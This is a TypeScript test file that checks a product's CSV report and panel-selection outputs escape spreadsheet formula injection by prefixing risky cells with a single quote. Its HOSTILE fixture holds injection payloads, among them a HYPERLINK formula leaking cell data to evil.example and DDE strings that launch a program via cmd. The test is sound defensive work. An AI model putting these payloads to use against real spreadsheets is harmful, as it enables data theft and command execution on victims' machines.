/*
 * Names people type reach every CSV the product writes: the report download of the API and the
 * files `npm run select` writes. Opened in a spreadsheet, a cell starting with = + - @ (or a tab or
 * carriage return) would be run as a formula; each must come out as text behind a single quote.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { isoDaysFromToday } from '../../factories/cohorts';
import { bearer, SignedIn, signUpOrganisation } from '../../factories/organisations';
import { createHost } from '../../factories/progression';
import { createLocality, enterApplicant, openIntake } from '../../factories/recruitment';
import { TestEnvironment } from '../../support/test-environment';

const ROOT = join(__dirname, '..', '..', '..');
const HOSTILE = {
  organisation: '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")',
  localities: ["+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
  person: "=cmd|' /C calc'!A0",
  host: "@SUM(1+1)*cmd|' /C calc'!A0 Hub",
};

/** What a spreadsheet would run: a cell starting with a formula character that is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
const cellsOf = (csv: string): string[][] => parse(csv, { relax_column_count: true });

describe('formula injection: every CSV writes typed names as text', () => {
  let env: TestEnvironment;
  let admin: SignedIn;

  beforeAll(async () => {
    env = await TestEnvironment.start({ worker: true });
    admin = await signUpOrganisation(env);
    await env.http.patch('/organisation').set(bearer(admin)).send({ name: HOSTILE.organisation }).expect(200);
    const intake = await openIntake(env, admin);
    for (const name of HOSTILE.localities) {
      const locality = await createLocality(env, admin, name);
      await enterApplicant(env, admin, intake.id, { name: HOSTILE.person, localityId: locality.id });
    }
    await createHost(env, admin, { name: HOSTILE.host });
  });
  afterAll(async () => env?.close());

  it('the report CSV shows the organisation and localities behind a single quote, and no cell a spreadsheet would run', async () => {
    const { body: requested } = await env.http
      .post('/reports')
      .set(bearer(admin))
      .send({ from: '2020-01-01', to: isoDaysFromToday(0) })
      .expect(202);
    const deadline = Date.now() + 60_000;
    for (;;) {
      const { body } = await env.http.get(`/reports/${requested.id}`).set(bearer(admin)).expect(200);
      if (body.status === 'done') break;
      if (body.status === 'failed' || Date.now() > deadline) throw new Error(`report ${requested.id} is ${body.status}: ${body.error}`);
      await new Promise((r) => setTimeout(r, 200));
    }
    const { text } = await env.http.get(`/reports/${requested.id}/download`).query({ format: 'csv' }).set(bearer(admin)).buffer(true).expect(200);
    const cells = cellsOf(text);

    expect(cells.find((row) => row[0] === 'organisation')).toEqual(['organisation', `'${HOSTILE.organisation}`]);
    const byLocality = cells.slice(cells.findIndex((row) => row[0] === 'table' && row[1] === 'equity-locality'));
    for (const name of HOSTILE.localities) expect(byLocality.map((row) => row[0])).toContain(`'${name}`);
    expect(cells.flat().filter(runnable)).toEqual([]);
    // Figures stay figures: counts are written as plain numbers a spreadsheet adds up.
    expect(byLocality.find((row) => row[0] === `'${HOSTILE.localities[0]}`)![1]).toBe('1');
  });

  it('npm run select writes respondents’ answers and ids behind a single quote in panel.csv and probabilities.csv', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'formula-injection-'));
    try {
      writeFileSync(join(dir, 'categories.csv'), 'category,feature,min,max\ngender,"=1+1",1,1\ngender,Male,1,1\n');
      writeFileSync(
        join(dir, 'respondents.csv'),
        ['id,first_name,gender', `"@R1","${HOSTILE.localities[0]}","=1+1"`, `R2,"-2+3",Male`, 'R3,"+44 7700 900123",Male', `"-R4","${HOSTILE.person}","=1+1"`].join('\n'),
      );
      const run = await new Promise<{ code: number | null; stderr: string }>((resolve, reject) => {
        const child = spawn(
          process.execPath,
          [
            '-r',
            'ts-node/register/transpile-only',
            '-r',
            'tsconfig-paths/register',
            'scripts/select.ts',
            '--categories',
            join(dir, 'categories.csv'),
            '--respondents',
            join(dir, 'respondents.csv'),
            '--panel-size',
            '2',
            '--seed',
            'formula',
            '--out',
            dir,
          ],
          { cwd: ROOT, env: { ...process.env, TS_NODE_PROJECT: join(ROOT, 'tsconfig.json') } },
        );
        let stderr = '';
        child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        child.once('error', reject);
        child.once('close', (code) => resolve({ code, stderr }));
      });
      expect(run).toEqual({ code: 0, stderr: '' });

      const panel = cellsOf(readFileSync(join(dir, 'panel.csv'), 'utf8'));
      const probabilities = cellsOf(readFileSync(join(dir, 'probabilities.csv'), 'utf8'));
      expect([...panel.flat(), ...probabilities.flat()].filter(runnable)).toEqual([]);
      expect(panel).toHaveLength(3);
      // One of each gender: whoever was drawn for "=1+1", their answers read back as typed once the quote is dropped.
      const drawn = panel.find((row) => row[2] === "'=1+1")!;
      expect([
        ["'@R1", `'${HOSTILE.localities[0]}`],
        ["'-R4", `'${HOSTILE.person}`],
      ]).toContainEqual(drawn.slice(0, 2));
      expect(
        probabilities
          .slice(1)
          .map((row) => row[0])
          .sort(),
      ).toEqual(["'-R4", "'@R1", 'R2', 'R3']);
      expect(probabilities.slice(1).every((row) => /^\d\.\d{10}$/.test(row[1]))).toBe(true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
